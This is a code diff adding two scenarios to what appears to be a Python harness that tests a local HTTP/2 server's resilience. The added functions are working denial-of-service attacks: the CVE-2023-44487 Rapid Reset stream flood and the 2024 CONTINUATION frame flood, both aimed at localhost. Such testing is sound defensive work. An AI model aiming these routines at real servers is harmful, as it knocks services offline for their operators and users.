@@ -688,6 +688,54 @@ def scenario_unfinished_header_block(port):
             "seconds": round(time.time() - started, 1)}
 
 
+def scenario_rapid_reset(port, count="3000"):
+    """CVE-2023-44487: HEADERS then RST_STREAM, as fast as the socket takes
+    them. Reports the GOAWAY and how many streams were sent."""
+    c = Conn(port)
+    c.pump(lambda: 3 in c.settings)
+    sent = 0
+    hdrs = [(":method", "GET"), (":scheme", "http"),
+            (":authority", "localhost"), (":path", "/view")]
+    try:
+        for _ in range(int(count)):
+            sid = c.h2.get_next_available_stream_id()
+            c.h2.send_headers(sid, hdrs, end_stream=True)
+            c.h2.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
+            sent += 1
+            if sent % 100 == 0:
+                c.flush()
+        c.flush()
+    except (BrokenPipeError, ConnectionResetError, h2.exceptions.ProtocolError):
+        pass
+    c.pump(lambda: c.goaway is not None or c.closed, timeout=10)
+    return {"sent": sent, "goaway": c.goaway}
+
+
+def scenario_continuation_flood(port, count="10000"):
+    """CONTINUATION frames without END_HEADERS, endlessly (2024)."""
+    import hpack
+    c = Conn(port)
+    c.pump(lambda: 3 in c.settings)
+    c.flush = lambda: None
+    enc = hpack.Encoder()
+    f = hyperframe.frame.HeadersFrame(1)
+    f.data = enc.encode([(":method", "GET"), (":scheme", "http"),
+                         (":authority", "localhost"), (":path", "/view")])
+    f.flags.add("END_STREAM")
+    sent = 0
+    try:
+        c.sock.sendall(f.serialize())
+        for i in range(int(count)):
+            cf = hyperframe.frame.ContinuationFrame(1)
+            cf.data = enc.encode([("x-flood-%d" % i, "y" * 100)])
+            c.sock.sendall(cf.serialize())
+            sent += 1
+    except (BrokenPipeError, ConnectionResetError, OSError):
+        pass
+    c.pump(lambda: c.goaway is not None or c.closed, timeout=10)
+    return {"sent": sent, "goaway": c.goaway, "closed": c.closed}
+
+
 def main():
     port = int(sys.argv[1])
     name = sys.argv[2].replace("-", "_")
